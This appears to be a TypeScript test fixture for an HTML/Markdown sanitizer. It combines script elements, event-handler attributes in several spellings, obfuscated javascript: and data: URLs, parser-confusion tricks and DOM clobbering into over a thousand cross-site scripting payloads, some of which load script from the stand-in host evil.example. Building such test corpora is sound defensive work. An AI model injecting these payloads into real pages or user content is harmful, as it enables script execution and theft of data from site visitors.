/**
 * Texts that try to run code in a reader's browser: every vector (element, attribute, URL) in every disguise. None may
 * call `alert` on any page.
 */
const run = 'alert(1)';

/** Elements that run, load or frame something themselves, or change how the rest is parsed. */
const elements = [
  `<script>${run}</script>`,
  `<script src="//evil.example/a.js"></script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script xlink:href="data:,${run}" href="data:,${run}"></script></svg>`,
  `<svg><animate xlink:href="#a" attributeName="href" values="javascript:${run}"/><a id="a"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<base href="//evil.example/">`,
  `<link rel="stylesheet" href="//evil.example/a.css">`,
  `<link rel="import" href="data:text/html,<script>${run}</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<style>@import "//evil.example/a.css";*{background:url(javascript:${run})}</style>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<form id="f"><input name="attributes"><input name="firstChild"></form>`,
  `<button form="f" formaction="javascript:${run}">x</button>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${run}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${run}>">`,
  `<select><option><style></option></select><img src=x onerror=${run}></style>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<!doctype html><body onload=${run}>`,
  `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`,
  `<isindex action="javascript:${run}" type=image>`,
  `<audio src=x onerror=${run}></audio>`,
  `<video poster="javascript:${run}"><source onerror=${run}></video>`,
  `<x-own onclick=${run}>x</x-own>`,
  `<p style="behavior:url(#x);background:url('javascript:${run}')">x</p>`,
  `<img name="getElementById"><img id="forms"><a id="location" name="location" href="x">x</a>`,
];

/** Elements that content may have, each with an attribute that it may not have. */
const carriers = [
  'p',
  'h2',
  'a href="/blog"',
  'img src="/cms/uploads/a.png"',
  'td',
  'blockquote',
  'code',
  'abbr',
  'li',
  'figure',
  'svg',
  'body',
  'details open',
  'marquee',
  'input autofocus',
];
const handlers = [
  'onclick',
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbeforeinput',
  'oncontentvisibilityautostatechange',
];
const spellings: ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}=${value}`,
  (name, value) => `/${name.toUpperCase()}="${value}"`,
  (name, value) => `\n${name}\n=\n'${value}'`,
  (name, value) => ` x="a"${name}=${value.replace('(', '&#40;')}`,
  (name, value) => `\u000c${name}=\`${value}\``,
];
const handled = carriers.flatMap((carrier) =>
  handlers.flatMap((name) => spellings.map((spell) => `<${carrier}${spell(name, run)}>x`)),
);

/** URLs that run code when followed or loaded. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript\u00a0:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript&colon;${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `javascript://%0a${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:https://evil.example/1`,
  `filesystem:https://evil.example/1`,
  `view-source:javascript:${run}`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `/\\evil.example`,
  `https:evil.example`,
  `feed:javascript:${run}`,
];
const places: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_blank>x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<img src=x srcset="${address} 2x" lowsrc="${address}">`,
  (address) => `<a xlink:href="${address}" ping="${address}">x</a>`,
  (address) => `<blockquote cite="${address}">x</blockquote>`,
  (address) => `<table background="${address}"><tr><td>x</table>`,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address}\n\n[x] ![x]`,
];
const addressed = addresses.flatMap((address) => places.map((place) => place(address)));

/** Contexts in which the parser is in another state when it meets the payload. */
const surroundings: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `Text before\n\n${payload}\n\nand after`,
  (payload) => `- in a list ${payload}`,
  (payload) => `| in | a table |\n| - | - |\n| ${payload.replaceAll('\n', ' ').replaceAll('|', '\\|')} | x |`,
  (payload) => `<div><p><b>${payload}`,
  (payload) => `<table><tr>${payload}`,
  (payload) => `<svg><desc>${payload}`,
];

/** At least 1,000, without duplicates. */
export const htmlPayloads: readonly string[] = [
  ...new Set([
    ...elements.flatMap((element) => surroundings.map((surround) => surround(element))),
    ...handled,
    ...addressed,
  ]),
];
